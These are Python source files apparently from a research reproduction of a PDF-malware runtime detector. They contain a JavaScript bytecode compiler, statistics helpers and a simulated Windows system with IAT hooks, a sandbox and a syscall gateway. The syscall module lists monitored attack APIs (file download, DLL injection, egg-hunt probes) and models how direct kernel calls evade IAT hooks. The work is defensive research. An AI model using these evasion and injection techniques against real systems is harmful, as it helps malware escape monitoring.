            self._emit_store_identifier(target.name)
            return
        if isinstance(target, ast.MemberExpression):
            self._expr(target)
            self._expr(node.value)
            self._emit(BINARY, binary_op)
            self._expr_charge(target.obj)
            if target.computed:
                self._expr(target.prop)
                self._emit(ROT3)
                self._emit(MEMBER_SET_EXPR)
            else:
                assert isinstance(target.prop, ast.Identifier)
                self._emit(SWAP)
                self._emit(MEMBER_SET, target.prop.name)
            return
        self._expr(target)
        self._expr(node.value)
        self._emit(BINARY, binary_op)
        self._emit(RAISE_ERROR, ("invalid assignment target", "Error"))

    def _c_MemberExpression(self, node: ast.MemberExpression) -> None:
        self._expr(node.obj)
        if node.computed:
            self._expr(node.prop)
            self._emit(MEMBER_GET_EXPR)
        else:
            assert isinstance(node.prop, ast.Identifier)
            self._emit(MEMBER_GET, node.prop.name)

    def _c_CallExpression(self, node: ast.CallExpression) -> None:
        callee = node.callee
        if isinstance(callee, ast.MemberExpression):
            self.f.pending += 1  # normalized charge for the callee member
            self._expr(callee.obj)
            if callee.computed:
                self._expr(callee.prop)
                self._emit(METHOD_LOOKUP_EXPR)
                for argument in node.arguments:
                    self._expr(argument)
                self._emit(CALL_THIS_DYN, len(node.arguments))
            else:
                assert isinstance(callee.prop, ast.Identifier)
                self._emit(METHOD_LOOKUP, callee.prop.name)
                for argument in node.arguments:
                    self._expr(argument)
                self._emit(CALL_THIS, (callee.prop.name, len(node.arguments)))
            return
        if isinstance(callee, ast.Identifier) and callee.name == "eval":
            # Direct eval is syntactic in the walker: the binding is
            # never consulted, the callee identifier never charged.
            for argument in node.arguments:
                self._expr(argument)
            self._emit(DIRECT_EVAL, len(node.arguments))
            return
        self._expr(callee)
        for argument in node.arguments:
            self._expr(argument)
        self._emit(CALL, len(node.arguments))

    def _c_NewExpression(self, node: ast.NewExpression) -> None:
        self._expr(node.callee)
        for argument in node.arguments:
            self._expr(argument)
        self._emit(NEW, len(node.arguments))

    # -- misc --------------------------------------------------------------

    def _intern_number(self, value: float) -> float:
        # repr() keys keep NaN and -0.0 as distinct pool entries.
        key = repr(value)
        pool = self._pool
        if key not in pool:
            pool[key] = value
        return pool[key]

    _STMT_TABLE: Dict[type, Callable[["Compiler", Any], None]]
    _EXPR_TABLE: Dict[type, Callable[["Compiler", Any], None]]


Compiler._STMT_TABLE = {
    ast.Block: Compiler._c_Block,
    ast.EmptyStatement: Compiler._c_EmptyStatement,
    ast.ExpressionStatement: Compiler._c_ExpressionStatement,
    ast.VarDeclaration: Compiler._c_VarDeclaration,
    ast.FunctionDeclaration: Compiler._c_FunctionDeclaration,
    ast.IfStatement: Compiler._c_IfStatement,
    ast.WhileStatement: Compiler._c_WhileStatement,
    ast.DoWhileStatement: Compiler._c_DoWhileStatement,
    ast.ForStatement: Compiler._c_ForStatement,
    ast.ForInStatement: Compiler._c_ForInStatement,
    ast.BreakStatement: Compiler._c_BreakStatement,
    ast.ContinueStatement: Compiler._c_ContinueStatement,
    ast.ReturnStatement: Compiler._c_ReturnStatement,
    ast.ThrowStatement: Compiler._c_ThrowStatement,
    ast.TryStatement: Compiler._c_TryStatement,
    ast.SwitchStatement: Compiler._c_SwitchStatement,
}

Compiler._EXPR_TABLE = {
    ast.NumberLiteral: Compiler._c_NumberLiteral,
    ast.StringLiteral: Compiler._c_StringLiteral,
    ast.BooleanLiteral: Compiler._c_BooleanLiteral,
    ast.NullLiteral: Compiler._c_NullLiteral,
    ast.UndefinedLiteral: Compiler._c_UndefinedLiteral,
    ast.ThisExpression: Compiler._c_ThisExpression,
    ast.Identifier: Compiler._c_Identifier,
    ast.ArrayLiteral: Compiler._c_ArrayLiteral,
    ast.ObjectLiteral: Compiler._c_ObjectLiteral,
    ast.FunctionExpression: Compiler._c_FunctionExpression,
    ast.SequenceExpression: Compiler._c_SequenceExpression,
    ast.ConditionalExpression: Compiler._c_ConditionalExpression,
    ast.LogicalExpression: Compiler._c_LogicalExpression,
    ast.UnaryExpression: Compiler._c_UnaryExpression,
    ast.UpdateExpression: Compiler._c_UpdateExpression,
    ast.BinaryExpression: Compiler._c_BinaryExpression,
    ast.AssignmentExpression: Compiler._c_AssignmentExpression,
    ast.MemberExpression: Compiler._c_MemberExpression,
    ast.CallExpression: Compiler._c_CallExpression,
    ast.NewExpression: Compiler._c_NewExpression,
}


# ---------------------------------------------------------------------------
# Per-process compile cache

_CACHE_CAP = 256
_CODE_CACHE: "OrderedDict[str, Code]" = OrderedDict()
_CACHE_LOCK = threading.Lock()


def compile_source(source: str) -> Code:
    """Parse + compile ``source``, memoised per process.

    This cache is what makes the instrumentation prologue/epilogue —
    identical source text on every chain — compile once per process.
    Parse failures are never cached (they must re-raise each time, as
    the walker would re-parse).
    """
    with _CACHE_LOCK:
        cached = _CODE_CACHE.get(source)
        if cached is not None:
            _CODE_CACHE.move_to_end(source)
            return cached
    program = parse(source)
    code = Compiler().compile_program(program)
    with _CACHE_LOCK:
        _CODE_CACHE[source] = code
        _CODE_CACHE.move_to_end(source)
        while len(_CODE_CACHE) > _CACHE_CAP:
            _CODE_CACHE.popitem(last=False)
    return code


def compile_function_body(fn_name: str, params: List[str], body: ast.Block) -> Code:
    """Compile a foreign :class:`JSFunction`'s body (uncached entry)."""
    return Compiler().compile_function(fn_name or None, params, body)


def clear_code_cache() -> None:
    with _CACHE_LOCK:
        _CODE_CACHE.clear()


def code_cache_size() -> int:
    with _CACHE_LOCK:
        return len(_CODE_CACHE)


# ---------------------------------------------------------------------------
# Disassembly

def _format_arg(op: int, arg: Any, subcode_names: Dict[int, str]) -> str:
    if arg is None:
        return ""
    if isinstance(arg, Code):
        return subcode_names.get(id(arg), repr(arg))
    if op == EXEC_TRY:
        try_code, catch_param, catch_code, finally_code = arg
        parts = [subcode_names.get(id(try_code), "try")]
        if catch_code is not None:
            parts.append(f"catch({catch_param or 'e'})={subcode_names.get(id(catch_code), '?')}")
        if finally_code is not None:
            parts.append(f"finally={subcode_names.get(id(finally_code), '?')}")
        return " ".join(parts)
    if op == FORIN_NEXT:
        end, mode, payload = arg
        mode_name = ("name", "slot", "push")[mode]
        return f"end={end} {mode_name}={payload!r}" if mode != FORIN_PUSH else f"end={end} push"
    return repr(arg)


def _sub_codes(code: Code) -> List[Tuple[str, Code]]:
    out: List[Tuple[str, Code]] = []
    for action in code.hoist_actions:
        if action[0] == "func":
            sub = action[1]
            out.append((f"function {sub.name or '<anonymous>'}", sub))
    for index, (op, arg) in enumerate(zip(code.ops, code.args)):
        if op == MAKE_FUNCTION:
            out.append((f"function {arg.name or '<anonymous>'}@{index}", arg))
        elif op == EXEC_TRY:
            try_code, _param, catch_code, finally_code = arg
            out.append((f"try@{index}", try_code))
            if catch_code is not None:
                out.append((f"catch@{index}", catch_code))
            if finally_code is not None:
                out.append((f"finally@{index}", finally_code))
    return out


def disassemble(code: Code, name: str = "<program>") -> str:
    """A deterministic, diff-friendly listing of ``code`` and its
    nested function/fragment codes."""
    lines: List[str] = []
    _disassemble_one(code, name, lines)
    return "\n".join(lines) + "\n"


def _disassemble_one(code: Code, name: str, lines: List[str]) -> None:
    header = f"{name} [{code.kind}/{code.mode}]"
    if code.params:
        header += f" params=({', '.join(code.params)})"
    if code.mode == "slot":
        header += f" nlocals={code.nlocals} slots=({', '.join(code.slot_names)})"
    lines.append(header)
    for action in code.hoist_actions:
        if action[0] == "var":
            lines.append(f"  hoist var {action[1]}")
        else:
            lines.append(f"  hoist function {action[1].name}")
    subs = _sub_codes(code)
    subcode_names = {id(sub): label for label, sub in subs}
    for index, (op, arg, charge) in enumerate(zip(code.ops, code.args, code.charges)):
        text = _format_arg(op, arg, subcode_names)
        charge_note = f"  ; charge {charge}" if charge else ""
        lines.append(f"  {index:4d} {OPCODE_NAMES[op]:<18} {text}{charge_note}".rstrip())
    if code.regions:
        for region in code.regions:
            start, end, break_pc, continue_pc, bd, cd = region
            lines.append(
                f"  region [{start},{end}) break->{break_pc}"
                f" continue->{continue_pc} depths={bd}/{cd}"
            )
    seen: set = set()
    for label, sub in subs:
        if id(sub) in seen:
            continue
        seen.add(id(sub))
        lines.append("")
        _disassemble_one(sub, label, lines)
