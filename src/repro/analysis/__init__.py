"""Statistics and reporting helpers for the evaluation benchmarks."""

from repro.analysis.stats import Summary, cdf, summarize
from repro.analysis.report import (
    PaperComparison,
    format_table,
    render_ascii_cdf,
)

__all__ = [
    "PaperComparison",
    "Summary",
    "cdf",
    "format_table",
    "render_ascii_cdf",
    "summarize",
]
