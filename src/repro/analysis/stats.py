"""Small statistics utilities (CDFs for Fig. 6/7, summaries for tables)."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Sequence, Tuple

import numpy as np


@dataclass
class Summary:
    count: int
    mean: float
    minimum: float
    maximum: float
    median: float
    p90: float

    def row(self, label: str, unit: str = "") -> str:
        return (
            f"{label:<28} n={self.count:<6} mean={self.mean:10.2f}{unit} "
            f"min={self.minimum:10.2f}{unit} max={self.maximum:10.2f}{unit}"
        )


def summarize(values: Iterable[float]) -> Summary:
    data = np.asarray(list(values), dtype=float)
    if data.size == 0:
        return Summary(0, 0.0, 0.0, 0.0, 0.0, 0.0)
    return Summary(
        count=int(data.size),
        mean=float(data.mean()),
        minimum=float(data.min()),
        maximum=float(data.max()),
        median=float(np.median(data)),
        p90=float(np.quantile(data, 0.9)),
    )


def cdf(values: Iterable[float]) -> Tuple[np.ndarray, np.ndarray]:
    """Empirical CDF: returns (sorted values, cumulative fraction)."""
    data = np.sort(np.asarray(list(values), dtype=float))
    if data.size == 0:
        return data, data
    fractions = np.arange(1, data.size + 1) / data.size
    return data, fractions


def fraction_below(values: Sequence[float], threshold: float) -> float:
    data = np.asarray(values, dtype=float)
    if data.size == 0:
        return 0.0
    return float((data < threshold).mean())


def fraction_at_least(values: Sequence[float], threshold: float) -> float:
    data = np.asarray(values, dtype=float)
    if data.size == 0:
        return 0.0
    return float((data >= threshold).mean())
