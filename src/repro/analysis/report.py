"""Rendering helpers: paper-vs-measured tables and ASCII CDF plots."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable, List, Sequence, Tuple

from repro.analysis.stats import cdf


@dataclass
class PaperComparison:
    """One table/figure reproduction: paper values next to measured."""

    title: str
    columns: Tuple[str, ...] = ("metric", "paper", "measured")
    rows: List[Tuple[str, str, str]] = field(default_factory=list)

    def add(self, metric: str, paper: object, measured: object) -> None:
        self.rows.append((metric, str(paper), str(measured)))

    def render(self) -> str:
        widths = [
            max(len(self.columns[i]), max((len(r[i]) for r in self.rows), default=0))
            for i in range(len(self.columns))
        ]
        line = "  ".join(c.ljust(w) for c, w in zip(self.columns, widths))
        bar = "-" * len(line)
        body = [
            "  ".join(cell.ljust(w) for cell, w in zip(row, widths))
            for row in self.rows
        ]
        return "\n".join([self.title, bar, line, bar, *body, bar])


def format_table(
    headers: Sequence[str], rows: Iterable[Sequence[object]]
) -> str:
    text_rows = [[str(cell) for cell in row] for row in rows]
    widths = [
        max(len(headers[i]), max((len(r[i]) for r in text_rows), default=0))
        for i in range(len(headers))
    ]
    out = ["  ".join(h.ljust(w) for h, w in zip(headers, widths))]
    out.append("-" * len(out[0]))
    for row in text_rows:
        out.append("  ".join(cell.ljust(w) for cell, w in zip(row, widths)))
    return "\n".join(out)


def render_ascii_cdf(
    series: List[Tuple[str, Sequence[float]]],
    width: int = 60,
    height: int = 12,
    x_label: str = "value",
) -> str:
    """Plot one or more empirical CDFs as ASCII art (Fig. 6/7 style)."""
    all_values = [v for _name, values in series for v in values]
    if not all_values:
        return "(no data)"
    lo, hi = min(all_values), max(all_values)
    if hi == lo:
        hi = lo + 1.0
    grid = [[" "] * width for _ in range(height)]
    markers = "*o+x#"
    for index, (_name, values) in enumerate(series):
        xs, fracs = cdf(values)
        marker = markers[index % len(markers)]
        for x, frac in zip(xs, fracs):
            col = int((x - lo) / (hi - lo) * (width - 1))
            row = height - 1 - int(frac * (height - 1))
            grid[row][col] = marker
    lines = ["1.0 |" + "".join(grid[0])]
    for row in grid[1:-1]:
        lines.append("    |" + "".join(row))
    lines.append("0.0 |" + "".join(grid[-1]))
    lines.append("    +" + "-" * width)
    lines.append(f"     {lo:.3g}{' ' * (width - 16)}{hi:.3g}  ({x_label})")
    legend = "  ".join(
        f"{markers[i % len(markers)]} = {name}" for i, (name, _v) in enumerate(series)
    )
    lines.append("     " + legend)
    return "\n".join(lines)
