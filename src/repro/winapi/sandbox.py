"""A Sandboxie-like sandbox (the paper confines created processes with
Sandboxie [39]; Table III: "run target program in Sandboxie ... when
alert, terminate and isolate").
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Optional

from repro.winapi.process import Process, System


@dataclass
class SandboxedAction:
    pid: int
    description: str


class Sandbox:
    """Contains processes; their side effects are recorded, not applied."""

    def __init__(self, system: System) -> None:
        self.system = system
        self.contained: List[Process] = []
        self.actions: List[SandboxedAction] = []
        self.terminated: List[Process] = []

    def run(self, image: str, parent: Optional[Process] = None, command_line: str = "") -> Process:
        """Start ``image`` inside the sandbox."""
        process = self.system.spawn(image, parent=parent, sandboxed=True)
        process.command_line = command_line or image
        self.contained.append(process)
        return process

    def record(self, process: Process, description: str) -> None:
        if process not in self.contained:
            raise ValueError("process is not sandboxed")
        self.actions.append(SandboxedAction(process.pid, description))

    def terminate_and_isolate(self, process: Process, reason: str) -> None:
        """Kill a sandboxed process and quarantine its image (on alert)."""
        process.terminate(reason)
        self.terminated.append(process)
        if self.system.filesystem.exists(process.name):
            self.system.filesystem.quarantine(process.name)

    def is_contained(self, process: Process) -> bool:
        return process in self.contained
