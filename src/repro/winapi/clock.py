"""A virtual clock.

All timing in the simulated Windows world is virtual: components charge
costs (``advance``), observers read ``now()``.  This keeps the runtime
overhead experiments (§V-D2 — 0.093 s per instrumented script, < 2 s at
20 scripts) deterministic and machine-independent.
"""

from __future__ import annotations


class VirtualClock:
    """Monotonic simulated time in seconds."""

    def __init__(self, start: float = 0.0) -> None:
        self._now = float(start)

    def now(self) -> float:
        return self._now

    def advance(self, seconds: float) -> float:
        if seconds < 0:
            raise ValueError("time cannot go backwards")
        self._now += seconds
        return self._now

    def __repr__(self) -> str:
        return f"VirtualClock(t={self._now:.6f}s)"
