"""IAT hooking with trampoline-DLL injection.

The paper's prototype hooks the import address table of PDF reader
processes.  The hook DLL is implanted via an AppInit-registry
trampoline: the trampoline loads into *every* new process but only
pulls in the real hook DLL when the host is a PDF reader (§III-E,
following [38]).  Once attached, the hook DLL:

* forwards every captured API (name, arguments, memory usage) to the
  stand-alone runtime detector over a TCP channel, and
* enforces the hook-DLL half of the confinement rules (Table III)
  locally — e.g. ``CreateRemoteThread`` is always rejected.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Callable, Dict, List, Optional

from repro.winapi.network import LoopbackChannel
from repro.winapi.process import Process
from repro.winapi.syscalls import API, SyscallEvent

HOOK_DLL_NAME = "ctxmon_hook.dll"
TRAMPOLINE_DLL_NAME = "ctxmon_trampoline.dll"

#: Port the runtime detector's event listener binds on loopback.
DETECTOR_EVENT_PORT = 48620


class HookAction(enum.Enum):
    """What the hook DLL does with an intercepted call (Table III)."""

    PASS = "pass"       # call the original API
    REJECT = "reject"   # fail the call in-process


class HookMode(enum.Enum):
    """Where the hook sits (§III-E).

    The prototype uses IAT hooking, which "attackers could leverage
    GetProcAddress() or call kernel routines directly to bypass";
    kernel-mode (SSDT-style) hooks — the paper's planned hardening —
    see every call regardless of how user mode reached it.
    """

    IAT = "iat"
    SSDT = "ssdt"


@dataclass
class HookDecision:
    action: HookAction

    @property
    def allow_original(self) -> bool:
        return self.action is HookAction.PASS


#: A rule maps an API name to the decision the hook DLL makes locally.
HookRule = Callable[[Process, SyscallEvent], HookAction]


class IATHookLayer:
    """The hook DLL's view once injected into one process."""

    def __init__(
        self,
        process: Process,
        channel: Optional[LoopbackChannel],
        rules: Optional[Dict[str, HookRule]] = None,
        hooked_apis: tuple = API.ALL_HOOKED,
        mode: HookMode = HookMode.IAT,
    ) -> None:
        self.process = process
        self.channel = channel
        self.rules = dict(rules or {})
        self.hooked_apis = set(hooked_apis)
        self.mode = mode
        self.captured: List[SyscallEvent] = []
        self.rejected: List[SyscallEvent] = []
        self.bypassed: List[SyscallEvent] = []

    def on_call(
        self, process: Process, event: SyscallEvent, via_import_table: bool = True
    ) -> Optional[HookDecision]:
        """Called by the syscall gateway before the original API runs.

        ``via_import_table`` is False for direct kernel calls
        (GetProcAddress / raw syscall stubs): IAT hooks never see those,
        SSDT hooks always do.
        """
        if event.api not in self.hooked_apis:
            return None  # not in the patch set: invisible to us
        if not via_import_table and self.mode is HookMode.IAT:
            self.bypassed.append(event)
            return None  # §III-E: IAT hooks are blind to direct calls
        self.captured.append(event)
        if self.channel is not None:
            self.channel.send(event)
        rule = self.rules.get(event.api)
        action = rule(process, event) if rule is not None else HookAction.PASS
        if action is HookAction.REJECT:
            self.rejected.append(event)
        return HookDecision(action)


class TrampolineDLL:
    """AppInit-style implant: attaches hooks to PDF readers only."""

    def __init__(
        self,
        reader_names: tuple = ("AcroRd32.exe", "Acrobat.exe"),
        rules: Optional[Dict[str, HookRule]] = None,
        hook_mode: HookMode = HookMode.IAT,
    ) -> None:
        self.reader_names = reader_names
        self.rules = dict(rules or {})
        self.hook_mode = hook_mode
        self.attached: List[Process] = []

    def on_process_start(
        self, process: Process, detector_channel: Optional[LoopbackChannel]
    ) -> Optional[IATHookLayer]:
        """Simulates DLL_PROCESS_ATTACH of the trampoline."""
        process.load_module(TRAMPOLINE_DLL_NAME)
        if process.name not in self.reader_names:
            return None  # trampoline unloads; zero overhead elsewhere
        process.load_module(HOOK_DLL_NAME)
        layer = IATHookLayer(
            process, detector_channel, rules=self.rules, mode=self.hook_mode
        )
        process.iat_hooks = layer  # type: ignore[attr-defined]
        self.attached.append(process)
        return layer
