"""Syscall names, events and the dispatch gateway.

The gateway is the seam between "user code" (the simulated reader and
any shellcode payload it runs) and the operating system: every
sensitive operation goes through :meth:`SyscallGateway.invoke`, where
installed IAT hooks get to observe and veto it first — exactly the
paper's interception point.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Dict, List

from repro.winapi.process import Process


class API:
    """The hooked API names from §III-D of the paper."""

    # Malware dropping
    NT_CREATE_FILE = "NtCreateFile"
    URL_DOWNLOAD_TO_FILE = "URLDownloadToFileA"
    URL_DOWNLOAD_TO_CACHE_FILE = "URLDownloadToCacheFileA"
    # Network access
    CONNECT = "connect"
    LISTEN = "listen"
    # Mapped memory search (egg-hunt probes)
    NT_ACCESS_CHECK_AND_AUDIT_ALARM = "NtAccessCheckAndAuditAlarm"
    IS_BAD_READ_PTR = "IsBadReadPtr"
    NT_DISPLAY_STRING = "NtDisplayString"
    NT_ADD_ATOM = "NtAddAtom"
    # Process creation
    NT_CREATE_PROCESS = "NtCreateProcess"
    NT_CREATE_PROCESS_EX = "NtCreateProcessEx"
    NT_CREATE_USER_PROCESS = "NtCreateUserProcess"
    # DLL injection
    CREATE_REMOTE_THREAD = "CreateRemoteThread"

    MALWARE_DROP = (NT_CREATE_FILE, URL_DOWNLOAD_TO_FILE, URL_DOWNLOAD_TO_CACHE_FILE)
    NETWORK = (CONNECT, LISTEN)
    MEMORY_SEARCH = (
        NT_ACCESS_CHECK_AND_AUDIT_ALARM,
        IS_BAD_READ_PTR,
        NT_DISPLAY_STRING,
        NT_ADD_ATOM,
    )
    PROCESS_CREATE = (NT_CREATE_PROCESS, NT_CREATE_PROCESS_EX, NT_CREATE_USER_PROCESS)
    DLL_INJECT = (CREATE_REMOTE_THREAD,)

    ALL_HOOKED = MALWARE_DROP + NETWORK + MEMORY_SEARCH + PROCESS_CREATE + DLL_INJECT


@dataclass
class SyscallEvent:
    """One captured API call, as forwarded by the hook DLL."""

    api: str
    args: Dict[str, Any]
    pid: int
    seq: int
    time: float
    memory_private_usage: int = 0

    @property
    def category(self) -> str:
        if self.api in API.MALWARE_DROP:
            return "malware_drop"
        if self.api in API.NETWORK:
            return "network"
        if self.api in API.MEMORY_SEARCH:
            return "memory_search"
        if self.api in API.PROCESS_CREATE:
            return "process_create"
        if self.api in API.DLL_INJECT:
            return "dll_inject"
        return "other"


@dataclass
class SyscallResult:
    """What the caller of the API observes."""

    success: bool
    rejected_by_hook: bool = False
    value: Any = None


class SyscallGateway:
    """Dispatches API calls, consulting per-process hooks first."""

    def __init__(self, system: Any) -> None:
        self.system = system
        self._seq = 0
        self.log: List[SyscallEvent] = []

    def _next_seq(self) -> int:
        self._seq += 1
        return self._seq

    def invoke(
        self, process: Process, api: str, via_import_table: bool = True, **args: Any
    ) -> SyscallResult:
        """Invoke ``api`` on behalf of ``process``.

        ``via_import_table=False`` models a direct kernel call (raw
        syscall stub / GetProcAddress) — the §III-E evasion that IAT
        hooks cannot see but kernel-mode hooks can.
        """
        event = SyscallEvent(
            api=api,
            args=dict(args),
            pid=process.pid,
            seq=self._next_seq(),
            time=self.system.clock.now(),
            memory_private_usage=process.memory_counters().private_usage,
        )
        self.log.append(event)

        hooks = getattr(process, "iat_hooks", None)
        if hooks is not None:
            decision = hooks.on_call(process, event, via_import_table=via_import_table)
            if decision is not None and not decision.allow_original:
                return SyscallResult(success=False, rejected_by_hook=True)
        return self._perform(process, event)

    # -- actual effects -------------------------------------------------------

    def _perform(self, process: Process, event: SyscallEvent) -> SyscallResult:
        api = event.api
        args = event.args
        if api in API.MALWARE_DROP:
            path = str(args.get("path", ""))
            data = args.get("data", b"")
            record = self.system.filesystem.create(path, data, creator_pid=process.pid)
            return SyscallResult(success=True, value=record)
        if api == API.CONNECT:
            connection = self.system.network.connect(
                process.pid, str(args.get("host", "")), int(args.get("port", 0))
            )
            return SyscallResult(success=True, value=connection)
        if api == API.LISTEN:
            connection = self.system.network.listen(process.pid, int(args.get("port", 0)))
            return SyscallResult(success=True, value=connection)
        if api in API.MEMORY_SEARCH:
            # Probes are side-effect free: the return value says whether a
            # hypothetical address is mapped.  We model a sparse space.
            address = int(args.get("address", 0))
            return SyscallResult(success=True, value=(address % 7 != 0))
        if api in API.PROCESS_CREATE:
            name = str(args.get("image", "child.exe"))
            sandboxed = bool(args.get("sandboxed", False))
            child = self.system.spawn(name, parent=process, sandboxed=sandboxed)
            child.command_line = str(args.get("command_line", name))
            return SyscallResult(success=True, value=child)
        if api == API.CREATE_REMOTE_THREAD:
            target_pid = int(args.get("target_pid", 0))
            target = self.system.get(target_pid)
            if target is None or not target.alive:
                return SyscallResult(success=False)
            dll = str(args.get("dll", "payload.dll"))
            target.load_module(dll)
            return SyscallResult(success=True, value=dll)
        return SyscallResult(success=True)
