"""Simulated filesystem.

Only the behaviour the detection/confinement pipeline observes is
modelled: file creation (malware dropping), reads, existence checks,
executability (by extension), and quarantine (the confinement rules of
Table III isolate dropped executables and injected DLLs).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

EXECUTABLE_EXTENSIONS = (".exe", ".dll", ".scr", ".com", ".bat")


@dataclass
class FileRecord:
    path: str
    data: bytes
    creator_pid: Optional[int] = None
    quarantined: bool = False


class FileSystem:
    """A flat path → record store with quarantine support."""

    def __init__(self) -> None:
        self._files: Dict[str, FileRecord] = {}
        self.quarantine_log: List[str] = []

    @staticmethod
    def normalize(path: str) -> str:
        return path.replace("/", "\\").lower()

    def create(self, path: str, data: bytes = b"", creator_pid: Optional[int] = None) -> FileRecord:
        record = FileRecord(path=path, data=data, creator_pid=creator_pid)
        self._files[self.normalize(path)] = record
        return record

    def read(self, path: str) -> bytes:
        record = self._files.get(self.normalize(path))
        if record is None:
            raise FileNotFoundError(path)
        if record.quarantined:
            raise PermissionError(f"{path} is quarantined")
        return record.data

    def exists(self, path: str) -> bool:
        return self.normalize(path) in self._files

    def get(self, path: str) -> Optional[FileRecord]:
        return self._files.get(self.normalize(path))

    def delete(self, path: str) -> bool:
        return self._files.pop(self.normalize(path), None) is not None

    @staticmethod
    def is_executable(path: str) -> bool:
        return path.lower().endswith(EXECUTABLE_EXTENSIONS)

    def quarantine(self, path: str) -> bool:
        """Isolate a file (Table III: "isolate" actions)."""
        record = self._files.get(self.normalize(path))
        if record is None or record.quarantined:
            return False
        record.quarantined = True
        self.quarantine_log.append(path)
        return True

    def executables(self) -> List[str]:
        return [r.path for r in self._files.values() if self.is_executable(r.path)]

    def __len__(self) -> int:
        return len(self._files)
