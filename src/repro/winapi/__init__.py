"""Simulated Windows substrate.

The paper's back-end observes a PDF reader process through hooked
Windows APIs and ``PROCESS_MEMORY_COUNTERS_EX``.  This package
reproduces that observable surface: processes with memory counters, a
syscall dispatch table, IAT hooking injected via a trampoline DLL, a
filesystem, a loopback network and a Sandboxie-like sandbox.

Everything is deterministic and in-process; a virtual clock stands in
for wall time so benchmarks are reproducible.
"""

from repro.winapi.clock import VirtualClock
from repro.winapi.process import MemoryCounters, Process, ProcessState, System
from repro.winapi.syscalls import API, SyscallEvent
from repro.winapi.hooks import HookAction, HookDecision, IATHookLayer, TrampolineDLL
from repro.winapi.filesystem import FileSystem
from repro.winapi.network import Connection, Network
from repro.winapi.sandbox import Sandbox

__all__ = [
    "API",
    "Connection",
    "FileSystem",
    "HookAction",
    "HookDecision",
    "IATHookLayer",
    "MemoryCounters",
    "Network",
    "Process",
    "ProcessState",
    "Sandbox",
    "SyscallEvent",
    "System",
    "TrampolineDLL",
    "VirtualClock",
]
