"""Simulated processes and the system that owns them.

A :class:`Process` exposes exactly what the paper's runtime monitor
reads: a ``PROCESS_MEMORY_COUNTERS_EX``-shaped snapshot, the loaded
module list (DLL injection lands here), and lifecycle state (the failed
control-flow hijacks in §V-C2 *crash* the reader — the monitor sees
that too).
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Dict, List, Optional

from repro.winapi.clock import VirtualClock

#: Baseline private usage of an empty PDF reader process (bytes).
READER_BASE_MEMORY = 18 * 1024 * 1024


class ProcessState(enum.Enum):
    RUNNING = "running"
    EXITED = "exited"
    CRASHED = "crashed"
    TERMINATED = "terminated"  # killed by confinement


@dataclass
class MemoryCounters:
    """Mirror of the fields the paper reads from
    ``PROCESS_MEMORY_COUNTERS_EX`` [34]."""

    working_set_size: int
    peak_working_set_size: int
    private_usage: int
    pagefile_usage: int

    @property
    def private_usage_mb(self) -> float:
        return self.private_usage / (1024 * 1024)


class Process:
    """One simulated Windows process."""

    def __init__(
        self,
        pid: int,
        name: str,
        system: "System",
        parent_pid: Optional[int] = None,
        base_memory: int = 4 * 1024 * 1024,
        sandboxed: bool = False,
    ) -> None:
        self.pid = pid
        self.name = name
        self.system = system
        self.parent_pid = parent_pid
        self.base_memory = base_memory
        self.sandboxed = sandboxed
        self.state = ProcessState.RUNNING
        self.exit_reason: Optional[str] = None
        self.modules: List[str] = [name, "ntdll.dll", "kernel32.dll"]
        self.command_line: str = name
        self._allocations: Dict[str, int] = {}
        self._peak = base_memory

    # -- memory -----------------------------------------------------------

    def alloc(self, tag: str, nbytes: int) -> None:
        """Charge ``nbytes`` to allocation bucket ``tag``."""
        if nbytes < 0:
            raise ValueError("allocation size must be non-negative")
        self._allocations[tag] = self._allocations.get(tag, 0) + nbytes
        self._peak = max(self._peak, self.private_bytes)

    def free(self, tag: str) -> int:
        """Release a whole bucket (e.g. a closed document's heap)."""
        return self._allocations.pop(tag, 0)

    def set_bucket(self, tag: str, nbytes: int) -> None:
        self._allocations[tag] = max(0, nbytes)
        self._peak = max(self._peak, self.private_bytes)

    @property
    def private_bytes(self) -> int:
        return self.base_memory + sum(self._allocations.values())

    def memory_counters(self) -> MemoryCounters:
        private = self.private_bytes
        return MemoryCounters(
            working_set_size=private,
            peak_working_set_size=self._peak,
            private_usage=private,
            pagefile_usage=private,
        )

    # -- modules / lifecycle --------------------------------------------------

    def load_module(self, dll_name: str) -> None:
        if dll_name not in self.modules:
            self.modules.append(dll_name)

    def has_module(self, dll_name: str) -> bool:
        return dll_name in self.modules

    def crash(self, reason: str) -> None:
        if self.state is ProcessState.RUNNING:
            self.state = ProcessState.CRASHED
            self.exit_reason = reason

    def exit(self, reason: str = "normal exit") -> None:
        if self.state is ProcessState.RUNNING:
            self.state = ProcessState.EXITED
            self.exit_reason = reason

    def terminate(self, reason: str) -> None:
        if self.state is ProcessState.RUNNING:
            self.state = ProcessState.TERMINATED
            self.exit_reason = reason

    @property
    def alive(self) -> bool:
        return self.state is ProcessState.RUNNING

    def __repr__(self) -> str:
        return f"Process(pid={self.pid}, {self.name!r}, {self.state.value})"


@dataclass
class SystemConfig:
    """Tunables for the simulated machine."""

    reader_process_name: str = "AcroRd32.exe"
    whitelisted_programs: tuple = (
        "WerFault.exe",          # Windows error reporting
        "AdobeARM.exe",          # updater shipped with the reader
        "AcroBroker.exe",        # broker tool shipped with the reader
    )


class System:
    """The simulated machine: processes + clock + peripherals."""

    def __init__(self, config: Optional[SystemConfig] = None) -> None:
        from repro.winapi.filesystem import FileSystem
        from repro.winapi.network import Network

        self.config = config if config is not None else SystemConfig()
        self.clock = VirtualClock()
        self.filesystem = FileSystem()
        self.network = Network()
        self.processes: Dict[int, Process] = {}
        self._next_pid = 1000

    def spawn(
        self,
        name: str,
        parent: Optional[Process] = None,
        base_memory: int = 4 * 1024 * 1024,
        sandboxed: bool = False,
    ) -> Process:
        pid = self._next_pid
        self._next_pid += 4
        process = Process(
            pid=pid,
            name=name,
            system=self,
            parent_pid=parent.pid if parent else None,
            base_memory=base_memory,
            sandboxed=sandboxed,
        )
        self.processes[pid] = process
        return process

    def spawn_reader(self) -> Process:
        return self.spawn(self.config.reader_process_name, base_memory=READER_BASE_MEMORY)

    def get(self, pid: int) -> Optional[Process]:
        return self.processes.get(pid)

    def is_whitelisted_program(self, name: str) -> bool:
        return name in self.config.whitelisted_programs

